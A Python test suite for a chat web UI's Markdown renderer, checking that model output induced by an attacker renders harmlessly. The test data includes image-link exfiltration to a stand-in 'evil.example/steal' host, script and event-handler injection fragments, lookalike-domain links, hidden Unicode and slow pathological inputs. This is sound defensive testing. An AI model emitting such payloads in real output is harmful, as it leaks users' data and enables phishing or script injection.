"""Markdown that a model was talked into: whatever it says, the page only shows it."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.hostile_markdown import ONLY_TEXT
from webui.markdown import ATTRIBUTES, LONGEST, TAGS, render

EVIL = "https://evil.example/steal"
HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\u00ad\u3164\x00-\x08\x1b]")
GOOD_HREF = re.compile(r"#citation-\d+|https?://[^\s<>\"'\\@]+|mailto:[^\s<>\"'\\?]+")


class Read(HTMLParser):
    """A page as read by a parser that is neither of the two walls."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)

    @property
    def hrefs(self) -> list[str]:
        return [has["href"] for _, has in self.elements if "href" in has]


def read(text: str) -> Read:
    """What `text` becomes, which must be inert."""
    page = Read(render(text))
    assert not page.odd
    for tag, has in page.elements:
        assert tag in TAGS, tag
        assert set(has) <= ATTRIBUTES.get(tag, frozenset()), (tag, has)
        if "href" in has:
            assert GOOD_HREF.fullmatch(has["href"]), has["href"]
            outside = not has["href"].startswith("#")
            assert (has.get("target") == "_blank") == outside
            assert (has.get("rel") == "noopener noreferrer nofollow") == outside
            assert has.get("title", "") == (has["href"] if outside else "")
    assert not HIDDEN.search(page.text)
    return page


@pytest.mark.parametrize("text", ONLY_TEXT)
def test_a_hostile_text_is_shown_and_does_nothing(text):
    page = read(text)
    assert not page.hrefs
    assert {tag for tag, _ in page.elements} <= {"p", "br", "h3", "code", "pre"}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"![a picture]({EVIL}?q=secret)", f"a picture ({EVIL}?q=secret)"),
        (f"![]({EVIL})", f"({EVIL})"),
        (f"[![alt]({EVIL})](https://a.example/)", f"alt ({EVIL}) (a.example)"),
        (f"![x][1]\n\n[1]: {EVIL}", f"![x][1][1]: {EVIL}"),
    ],
)
def test_an_image_becomes_its_words_and_is_never_fetched(text, shown):
    page = read(text)
    assert "img" not in {tag for tag, _ in page.elements}
    assert page.text.replace("\n", "") == shown


@pytest.mark.parametrize(
    ("text", "href", "shown"),
    [
        (f"<{EVIL}>", EVIL, EVIL),
        (f"see {EVIL}.", EVIL, f"see {EVIL}."),
        (f"(at {EVIL}_(1))", f"{EVIL}_(1)", f"(at {EVIL}_(1))"),
        (f'[my bank]({EVIL} "https://bank.example")', EVIL, "my bank (evil.example)"),
        (f"[https://bank.example]({EVIL})", EVIL, "https://bank.example (evil.example)"),
        (
            "[pаypal.example](https://pаypal.example/)",
            "https://xn--pypal-4ve.example/",
            "pаypal.example (xn--pypal-4ve.example)",
        ),
        (
            "[x](https://a.example/ã?b=\u202ec)",
            "https://a.example/%C3%A3?b=%E2%80%AEc",
            "x (a.example)",
        ),
        ("<ana@a.example>", "mailto:ana@a.example", "ana@a.example"),
        ("[6](http://[::1]:631/x)", "#citation-6", "[6](http://[::1]:631/x)"),
        ("[six](http://[::1]:631/x)", "http://[::1]:631/x", "six ([::1]:631)"),
        ('[x](https://a.example/"onmouseover="y)', "https://a.example/%22onmouseover=%22y", None),
    ],
)
def test_a_link_shows_where_it_leads(text, href, shown):
    page = read(text)
    assert page.hrefs == ([href] if href else [])
    assert shown is None or page.text.strip() == shown


def test_marks_of_citations_are_links_to_them_and_no_text_can_pass_for_one():
    assert read("Yes. [1] No. [2][3]").hrefs == ["#citation-1", "#citation-2", "#citation-3"]
    assert read(f"[4]({'javascript:x'})").hrefs == ["#citation-4"]
    assert read(f"[4]({EVIL})").hrefs == ["#citation-4", EVIL]
    assert read(f"[4]\n\n[4]: {EVIL}").hrefs == ["#citation-4", "#citation-4", EVIL]
    assert read("[4444] [x] `[5]` [-1] [１]").hrefs == []
    assert read(f"[see [1] there]({EVIL})").hrefs == ["#citation-1", EVIL]


def test_a_mark_without_a_citation_stays_text():
    html = render("One [1], two [2].", known={1})
    assert Read(html).hrefs == ["#citation-1"]
    assert Read(html).text == "One [1], two [2].\n"


@pytest.mark.parametrize(
    "text",
    ["a\u202eb", "a&#x202e;b", "`a\u202eb`", "    a\u202eb", "```\na\u202eb\n```", "# a\u202eb",
     "| a\u202eb |\n|--|", "[a\u202eb](https://a.example)", "![a\u202eb](https://a.example)",
     "*a\u202eb*"],
)  # fmt: skip
def test_what_cannot_be_seen_is_shown_wherever_it_hides(text):
    assert "a<U+202E>b" in read(text).text


def test_a_language_of_code_is_a_plain_word():
    assert 'class="language-c++"' in render("```C++ \nx\n```")
    assert "class" not in render('```x"onload=y\nx\n```')
    assert "class" not in render("```é\nx\n```")


def test_markdown_looks_as_one_expects():
    html = render(
        "# T\n\n- **a**\n- *b* ~~c~~\n\n| h |\n|--:|\n| 1 |\n\n> q\n\n7. s\n\n`x<y`\n\n---\n"
    )
    for part in (
        "<h3>T</h3>", "<strong>a</strong>", "<em>b</em> <s>c</s>", '<th class="right">h</th>',
        "<blockquote>", '<ol start="7">', "<code>x&lt;y</code>", "<hr>",
    ):  # fmt: skip
        assert part in html


KNOTS = {
    "brackets": "[" * 90_000,
    "links": "[a](" * 60_000,
    "images": "![[" * 60_000,
    "emphasis": "*a **a " * 30_000,
    "stars and underscores": "*_" * 100_000,
    "backticks": "`a" * 120_000,
    "quotes": "> " * 120_000 + "x",
    "lists": "".join(" " * i + "- a\n" for i in range(700)),
    "tables": "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|a\n" * 20_000,
    "entities": "&#" * 100_000,
    "open tags": "<a" * 100_000,
    "address that never ends": "http://a" + ")" * 200_000,
    "addresses": "http://a.b/(( " * 17_000,
    "definitions": "[a]: b\n" * 30_000,
    "headings": "a\n=\n" * 50_000,
    "very long": "a " * LONGEST,
}


@pytest.mark.parametrize("knot", KNOTS)
def test_a_knotted_text_costs_a_moment_and_loses_nothing(knot):
    begun = time.thread_time()
    html = render(KNOTS[knot])
    assert time.thread_time() - begun < 5
    assert len(html) < 40 * len(KNOTS[knot])
    if "a" in KNOTS[knot] and knot not in ("links", "images"):
        assert len(re.findall("a", Read(html).text)) == KNOTS[knot].count("a")


_PIECES = st.sampled_from(
    "[]()<>!*_`~#|-:&;\"'/\\ \n\t" "\u202e\u200b\x00é"
) | st.sampled_from(
    ["[1]", "](", "![", "http://", "javascript:", "data:", "a.example", "&#x", "<img src=x onerror=y>",
     "<script>", "</", "<!--", "]]>", "```", "\n\n", "    ", "\n> ", "\n- ", "|--|", "<svg>", "<style>",
     "@", "&quot;", "&NewLine;", "%0a", "mailto:", "<a href=", "onclick=", "[a]: "]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(_PIECES | st.text(max_size=3), max_size=40).map("".join))
def test_whatever_it_is_given_only_what_is_allowed_comes_out(text):
    read(text)
